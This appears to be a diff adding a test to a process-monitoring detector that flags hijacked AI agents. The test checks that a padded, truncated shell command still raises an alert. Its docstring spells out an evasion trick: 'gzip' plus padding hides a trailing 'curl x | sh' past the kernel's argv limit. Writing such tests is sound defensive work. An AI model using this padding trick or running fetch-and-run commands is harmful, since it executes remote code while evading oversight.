@@ -208,3 +208,16 @@ def test_a_reused_pid_does_not_inherit_a_dead_programs_image() -> None:
     ch2, ctx2 = channel()
     thread = {"type": "exit", "pid": 10, "tid": 13, "ts_ns": 11}
     assert keys(ch2, ctx2, [tar, thread, ex(12, 10, "/bin/sh", ["sh", "-c", "gzip"])]) == []
+
+
+def test_a_command_cut_by_the_kernels_argv_limit_is_not_a_helper() -> None:
+    """The kernel keeps 256 bytes of argv: `gzip<padding>; curl x | sh` arrives as a harmless `gzip ...`."""
+    ch, ctx = channel()
+    tar = ex(10, 1, "/usr/bin/tar", ["tar"])
+    cut = dict(ex(11, 10, "/bin/sh", ["sh", "-c", "gzip" + " " * 240]), args_truncated=True)
+    assert keys(ch, ctx, [tar, cut]) == ["LLM_AGENT_HIJACK:dash<-tar"]
+    # git's form passes CMD again as $0: CMD was followed by another word, so it was captured whole
+    ch2, ctx2 = channel()
+    up = "git-upload-pack '/" + "p" * 100 + "/o.git'"
+    whole = dict(ex(21, 10, "/bin/sh", ["/bin/sh", "-c", up, up[:20]]), args_truncated=True)
+    assert keys(ch2, ctx2, [tar, whole]) == []
